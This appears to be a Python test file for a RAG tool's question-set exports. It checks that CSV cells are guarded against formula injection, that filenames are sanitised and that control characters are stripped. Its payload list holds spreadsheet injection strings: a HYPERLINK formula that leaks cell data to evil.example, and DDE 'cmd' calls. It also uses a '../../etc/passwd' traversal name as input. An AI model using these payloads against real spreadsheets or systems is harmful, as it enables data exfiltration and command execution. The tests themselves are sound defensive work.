"""Issue 15, item 6: one guarded CSV writer, control characters removed on the way in, one decoder.

Faults reproduced (each failed before):
* question-set CSV export wrote ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)``, ``+1+1`` raw;
* its download was named ``name.csv.csv`` for a set called ``name.csv``;
* NUL bytes in questions reached SQLite, the prompt and exports;
* question CSVs in UTF-16 or Windows-1252 were refused while such text documents were read.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from rag_core.errors import InputError
from rag_core.ingest.documents import parse_document
from rag_core.models import QAItem
from rag_core.questions import parse_questions
from rag_core.reporting.export import csv_text, export_filename, questions_csv, questions_json
from rag_core.settings import Settings
from rag_core.storage import HistoryStore
from rag_core.text import (
    FORMULA_START,
    decode_text,
    formula_guard,
    formula_unguard,
    looks_binary,
    strip_control,
)
from rag_core.workspace import Workspace

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "'=already guarded by hand",
    "''=two apostrophes",
    "'just an apostrophe",
    "Tab\tinside and = later",
    "Ordinary question?",
]


# --- the formula guard ------------------------------------------------------------------------------
@pytest.mark.parametrize("value", [*PAYLOADS, "", "'", "=", "\t=x", "\r=x", "-", "@"])
def test_guard_is_undone_exactly_and_leaves_no_formula(value: str) -> None:
    guarded = formula_guard(value)
    assert not guarded.startswith(FORMULA_START)
    assert formula_unguard(guarded) == value


def test_the_one_csv_writer_guards_every_text_cell_but_not_numbers() -> None:
    text = csv_text(["a", "b", "c"], [["=1+1", -1.5, None], ["@x", 3, "+y"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["a", "b", "c"], ["'=1+1", "-1.5", ""], ["'@x", "3", "'+y"]]


# --- question-set exports -----------------------------------------------------------------------------
ITEMS = [QAItem(p, p) for p in PAYLOADS]


def test_question_set_csv_is_formula_guarded() -> None:
    rows = list(csv.reader(io.StringIO(questions_csv(ITEMS))))
    assert rows[0] == ["question", "ground_truth", "expected"]
    for cell in (c for row in rows[1:] for c in row):
        assert not cell.startswith(FORMULA_START), cell  # nothing runs when opened in a spreadsheet
    assert rows[1][0].startswith("'=HYPERLINK(") and rows[4][0] == "'+1+1"


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_question_set_exports_import_as_the_same_questions(fmt: str) -> None:
    text = questions_csv(ITEMS) if fmt == "csv" else questions_json(ITEMS)
    assert parse_questions(f"set.{fmt}", text.encode()) == ITEMS
    assert Workspace.import_questions(f"set.{fmt}", Workspace.export_questions(ITEMS, fmt).encode()) == ITEMS


@pytest.mark.parametrize(
    ("name", "fmt", "expected"),
    [
        ("leave.csv", "csv", "leave.csv"),  # was leave.csv.csv
        ("Leave.CSV", "json", "Leave.json"),
        ("leave.json", "csv", "leave.csv"),
        ("Leave policy — tricky cases", "csv", "Leave_policy_tricky_cases.csv"),
        ("../../etc/passwd", "json", "etc_passwd.json"),
        ("...", "csv", "export.csv"),
        ("q.csv.csv", "csv", "q.csv"),
    ],
)
def test_export_file_names(name: str, fmt: str, expected: str) -> None:
    assert export_filename(name, fmt) == expected == Workspace.export_filename(name, fmt)


# --- control characters ---------------------------------------------------------------------------------
def test_strip_control_keeps_tab_and_newline_and_drops_the_rest() -> None:
    assert strip_control("a\x00b\x07c\x1bd\x7fe\x9ff") == "abcdef"
    assert strip_control("one\r\ntwo\rthree\x0bfour\x0cfive\ttab") == "one\ntwo\nthree\nfour\nfive\ttab"
    assert strip_control("lone \ud800 surrogate") == "lone  surrogate"
    assert strip_control("Café – 25 days ✓") == "Café – 25 days ✓"


def test_nul_and_controls_are_removed_from_questions_from_every_source(settings: Settings) -> None:
    csv_file = b"question,ground_truth\nHow many\x00 days\x07?,25\x00 days\n"
    json_file = json.dumps([{"question": "How many\u0000 days\u001b?", "ground_truth": "25\u0000 days"}])
    assert parse_questions("q.csv", csv_file) == [QAItem("How many days?", "25 days")]
    assert parse_questions("q.json", json_file.encode()) == [QAItem("How many days?", "25 days")]
    with HistoryStore(settings.db_path) as store:  # the editor's rows go through the same check
        store.save_question_set("s", [QAItem("Leave\x00?", "\x0025 days")])
        assert store.get_question_set("s") == [QAItem("Leave?", "25 days")]
        run_id = store.create_run(
            question_set="s",
            backend="offline",
            mode="async",
            suite="none",
            config={},
            items=store.get_question_set("s"),
        )
        assert "\x00" not in store.get_results(run_id)[0].question
    with pytest.raises(InputError, match=r"row 1 \(line 2\): the question is empty"):
        parse_questions("q.csv", b"question,ground_truth\n\x00\x01,x\n")


def test_nul_and_controls_are_removed_from_document_text(settings: Settings) -> None:
    doc = parse_document("p.txt", b"Annual\x00 leave\x07 is 25 days.\x1b\r\nSick\x0cleave is paid.", settings)
    text = doc.chunks[0].text
    assert text == "Annual leave is 25 days.\nSick\nleave is paid."
    with pytest.raises(Exception, match="binary"):  # a renamed binary file is still refused
        parse_document("x.txt", bytes(range(256)) * 10, settings)


# --- one decoder for question files and documents ---------------------------------------------------------
TEXT = "question,ground_truth\nCafé leave – how many days?,25 days ✓\n"


@pytest.mark.parametrize(
    ("encoding", "data"),
    [
        ("utf-8", TEXT.encode("utf-8")),
        ("utf-8 with BOM", TEXT.encode("utf-8-sig")),
        ("utf-16 (LE, BOM)", TEXT.encode("utf-16")),
        ("utf-16 (BE, BOM)", b"\xfe\xff" + TEXT.encode("utf-16-be")),
        ("windows-1252", TEXT.replace(" ✓", "").encode("cp1252")),
    ],
)
def test_question_files_are_read_in_the_encodings_documents_are(
    encoding: str, data: bytes, settings: Settings
) -> None:
    expected_gt = "25 days" if encoding == "windows-1252" else "25 days ✓"
    assert parse_questions("q.csv", data) == [QAItem("Café leave – how many days?", expected_gt)], encoding
    doc = parse_document("d.txt", data, settings)  # the same bytes as a document: the same text
    assert "Café leave – how many days?" in doc.chunks[0].text
    assert decode_text(data).startswith("question,ground_truth")


def test_a_binary_file_renamed_csv_is_named_as_such() -> None:
    assert looks_binary(decode_text(bytes(range(256)) * 10))
    assert not looks_binary("a stray\x00 NUL in a long enough line of ordinary text")
    with pytest.raises(InputError, match=r"'q\.csv' does not look like a text file"):
        parse_questions("q.csv", bytes(range(256)) * 10)
